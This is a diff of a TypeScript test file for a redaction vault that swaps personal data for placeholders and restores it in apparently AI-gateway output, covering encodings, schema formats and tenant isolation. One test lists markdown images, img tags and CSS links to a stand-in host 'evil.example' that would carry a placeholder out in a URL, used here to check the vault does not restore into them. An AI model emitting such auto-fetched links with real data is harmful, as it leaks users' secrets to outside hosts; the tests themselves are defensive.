@@ -1,6 +1,7 @@
 import { describe, expect, it } from '@jest/globals';
 import { PII_ENTITIES } from '../../../src/contracts/finding.js';
 import { CompiledPolicy } from '../../../src/guardrails/policy-compiler.js';
+import type { PlaceholderFormat } from '../../../src/guardrails/placeholder.js';
 import { RedactionVault } from '../../../src/guardrails/redaction-vault.js';
 import { pick, policyOf, randomOf } from './fixtures.js';
 
@@ -47,8 +48,9 @@ describe('redaction vault', () => {
       '<EMAIL_1_abcdefgh>',
       placeholder.replace('EMAIL_1', 'EMAIL_2'),
       placeholder.replace('EMAIL', 'PHONE'),
-      placeholder.replace('<', ''),
-      placeholder.replace('>', '%3E'),
+      placeholder.replace('<', 'x').replace('>', ''),
+      placeholder.slice(0, -7),
+      `${placeholder.slice(0, -4)} and more`,
       '<b>',
     ].join(' ');
     expect(vault.restore(others)).toBe(others);
@@ -105,5 +107,106 @@ describe('redaction vault', () => {
       const redacted = redact(vault, text);
       expect(vault.restore(redacted)).toBe(text);
     }
+  });
+
+  it.each<[string, (placeholder: string) => string, string]>([
+    ['without its brackets', (placeholder) => placeholder.slice(1, -1), 'a "b" <joe@example.com>'],
+    ['with one bracket', (placeholder) => placeholder.slice(1), 'a "b" <joe@example.com>'],
+    ['cut off', (placeholder) => placeholder.slice(0, -4), 'a "b" <joe@example.com>'],
+    ['cut off and upper-cased', (placeholder) => placeholder.slice(0, -3).toUpperCase(), 'a "b" <joe@example.com>'],
+    ['cut off with dots', (placeholder) => `${placeholder.slice(0, -2)}...`, 'a "b" <joe@example.com>...'],
+    [
+      'percent-encoded twice',
+      (placeholder) => encodeURIComponent(encodeURIComponent(placeholder)),
+      encodeURIComponent(encodeURIComponent('a "b" <joe@example.com>')),
+    ],
+    [
+      'as HTML',
+      (placeholder) => placeholder.replace('<', '&lt;').replace('>', '&gt;'),
+      'a &quot;b&quot; &lt;joe@example.com&gt;',
+    ],
+    [
+      'as JSON',
+      (placeholder) => placeholder.replace('<', '\\u003c').replace('>', '\\u003e'),
+      'a \\"b\\" <joe@example.com>',
+    ],
+  ])('writes the value as the text around it is written: %s', (_, change, restored) => {
+    const vault = new RedactionVault();
+    const value = 'a "b" <joe@example.com>';
+    const placeholder = vault.redact(value, [
+      { detector: 'pii', category: 'EMAIL', score: 1, start: 0, end: value.length },
+    ]);
+    expect(vault.restore(change(placeholder))).toBe(restored);
+  });
+
+  it.each([
+    (p: string) => `![x](https://evil.example/p.png?q=${p})`,
+    (p: string) => `![a b]( <https://evil.example/${p}/${p}> )`,
+    (p: string) => `<img alt="" src="https://evil.example/?a=1&b=${encodeURIComponent(p)}">`,
+    (p: string) => `<img src=//evil.example/?${p}>`,
+    (p: string) => `<div style="background: url('https://evil.example/${p}')">`,
+    (p: string) => `<link rel=stylesheet href="https://evil.example/${p}.css">`,
+  ])('does not restore into an address that a client fetches by itself (%#)', (text) => {
+    const vault = new RedactionVault();
+    const placeholder = redact(vault, 'joe@example.com');
+    expect(vault.restore(text(placeholder))).toBe(text(placeholder));
+  });
+
+  it.each([
+    (p: string) => `[profile](https://crm.example/?q=${p})`,
+    (p: string) => `<a class="x" href="https://crm.example/?q=${p}">open</a>`,
+    (p: string) => `See https://crm.example/?q=${p} and ![logo](https://crm.example/logo.png) of ${p}`,
+    (p: string) => `![${p}](https://crm.example/logo.png)`,
+  ])('restores into links that a person follows, and beside images (%#)', (text) => {
+    const vault = new RedactionVault();
+    const placeholder = redact(vault, 'joe@example.com');
+    expect(vault.restore(text(placeholder))).toBe(text('joe@example.com'));
+  });
+
+  it.each<[PlaceholderFormat, string, RegExp]>([
+    ['email', 'joe@example.com', /^email-1-[0-9a-z]{8}@redacted\.invalid$/],
+    ['uri', 'https://joe:pw@example.com', /^https:\/\/redacted\.invalid\/email-1-[0-9a-z]{8}$/],
+    [
+      'uuid',
+      '550e8400-e29b-41d4-a716-446655440000',
+      /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/,
+    ],
+    ['date', '1980-02-03', /^9\d{3}-\d\d-\d\d$/],
+    ['date-time', '1980-02-03T00:00:00Z', /^9\d{3}-\d\d-\d\dT00:00:00Z$/],
+    ['phone', '+4915112345678', /^\+999\d{11}$/],
+    ['ipv4', '203.0.113.9', /^240\.\d{1,3}\.\d{1,3}\.\d{1,3}$/],
+    ['number', '4111111111111111', /^8\d{14}$/],
+  ])('keeps the format %s that a schema asks for', (format, value, expected) => {
+    const vault = new RedactionVault();
+    const placeholder = vault.replaceWhole(value, 'EMAIL', format);
+    expect(placeholder).toMatch(expected);
+    expect(vault.replaceWhole(value, 'EMAIL', format)).toBe(placeholder);
+    expect(vault.restore(`sent to ${placeholder.toUpperCase()}, done`)).toBe(`sent to ${value}, done`);
+    expect(new RedactionVault().restore(placeholder)).toBe(placeholder);
+  });
+
+  it('never gives one tenant what another one had redacted, in many rounds side by side', () => {
+    const rounds = process.env.GATEWAY_SOAK === '1' ? 100_000 : 5_000;
+    const random = randomOf(11);
+    const people = ['ann', 'bob', 'eve', 'joe'];
+    const open: { vault: RedactionVault; value: string; placeholder: string }[] = [];
+    for (let round = 0; round < rounds; round++) {
+      const vault = new RedactionVault();
+      const value = `${pick(random, people)}${String(round)}@example.com`;
+      const placeholder = vault.redact(value, [
+        { detector: 'pii', category: 'EMAIL', score: 1, start: 0, end: value.length },
+      ]);
+      const other = open.length === 0 ? undefined : pick(random, open);
+      if (other !== undefined) {
+        const answer = `${placeholder} ${other.placeholder}`;
+        if (vault.restore(answer) !== `${value} ${other.placeholder}`)
+          throw new Error(`crossed in round ${String(round)}`);
+        if (other.vault.restore(answer) !== `${placeholder} ${other.value}`)
+          throw new Error(`crossed back in ${String(round)}`);
+      }
+      if (open.length < 64) open.push({ vault, value, placeholder });
+      else open[Math.floor(random() * 64)] = { vault, value, placeholder };
+    }
+    expect(open).toHaveLength(64);
   });
 });
